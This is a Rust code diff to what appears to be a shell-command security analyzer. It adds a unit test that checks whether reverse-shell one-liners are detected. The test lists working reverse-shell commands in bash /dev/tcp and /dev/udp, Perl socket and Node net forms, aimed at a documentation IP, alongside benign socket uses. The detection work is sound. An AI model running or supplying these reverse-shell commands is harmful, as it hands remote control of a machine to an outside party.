@@ -14,7 +14,9 @@ mod files;
 mod interp;
 mod keys;
 mod net;
+mod search;
 mod snippet;
+pub(crate) mod system;
 mod tools;
 mod vcs;
 
@@ -418,6 +420,8 @@ pub(crate) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> St
     }
     exfil::dns_query(a, name, inv);
     exfil::url_data(a, name, inv);
+    system::observe(a, name, inv);
+    search::observe(a, name, inv);
     let local;
     let inv = match embedded::container_command(name, inv.rest())
         .or_else(|| embedded::kubectl_command(name, inv.rest()))
@@ -708,6 +712,9 @@ pub(crate) fn generic(a: &mut Analyzer, name: &str, inv: &Inv) -> Stream {
             continue;
         }
         if looks_like_path(&arg.text) {
+            if disk::names_device_only(name, &arg.text) {
+                continue;
+            }
             a.path_arg(&cwd, arg, Access::Read, name, false);
         }
     }
@@ -773,6 +780,44 @@ pub(crate) fn sub_inv(inv: &Inv, argv: Vec<Arg>, wrapper: &str) -> Inv {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Issue 11, reverse shells by shape: a socket wired to a shell's stdio, whatever the
+    /// wrapper, the peer's spelling or the interpreter.
+    #[test]
+    fn sockets_wired_to_a_shell_are_reverse_shells() {
+        let ctx = crate::ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        };
+        for cmd in [
+            "exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "0<&196;exec 196<>/dev/tcp/203.0.113.5/443; sh <&196 >&196 2>&196",
+            "env sh -i >& /dev/udp/203.0.113.5/53 0>&1",
+            "nohup bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
+            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'"#,
+            r#"node -e 'const n=require("net"),c=require("child_process");const s=n.connect(443,h);const p=c.spawn("/bin/sh");s.pipe(p.stdin)'"#,
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.remote_exec.iter().any(|r| r.kind == "reverse_shell"),
+                "{cmd}: {:?}",
+                f.remote_exec
+            );
+        }
+        for cmd in [
+            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+            "echo ping > /dev/tcp/127.0.0.1/8080",
+            "bash -c 'cat < /dev/tcp/time.nist.gov/13'",
+        ] {
+            let f = crate::analyze(cmd, &ctx);
+            assert!(
+                f.remote_exec.iter().all(|r| r.kind != "reverse_shell"),
+                "{cmd}: {:?}",
+                f.remote_exec
+            );
+        }
+    }
 
     #[test]
     fn globs() {
